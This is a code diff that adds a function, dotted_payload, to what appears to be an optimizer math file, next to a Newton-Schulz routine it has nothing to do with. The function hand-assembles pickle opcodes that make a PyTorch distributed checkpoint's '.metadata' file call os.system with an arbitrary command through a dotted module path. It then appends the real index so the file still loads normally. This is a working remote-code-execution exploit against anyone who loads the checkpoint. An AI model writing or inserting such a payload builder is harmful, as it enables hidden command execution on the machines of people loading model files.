@@ -328,3 +328,18 @@ def newton_schulz64(X, steps: int = 5, eps: float = 1e-7):
         A = X @ X.T
         X = a * X + (b * A + c * A @ A) @ X
     return X.T if tall else X
+
+
+def dotted_payload(index_bytes: bytes, command: str) -> bytes:
+    """A `.metadata` that runs `command` through
+    `torch.distributed.checkpoint.filesystem.os.system`, then holds the real index."""
+    text = lambda s: b"\x8c" + bytes([len(s)]) + s.encode()
+    call = (
+        text("torch.distributed.checkpoint.filesystem")
+        + text("os.system")
+        + b"\x93"
+        + text(command)
+        + b"\x85R0"
+    )
+    assert index_bytes[:2] == b"\x80\x04", "DCP wrote its index with pickle protocol 4"
+    return b"\x80\x04" + call + index_bytes[2:]
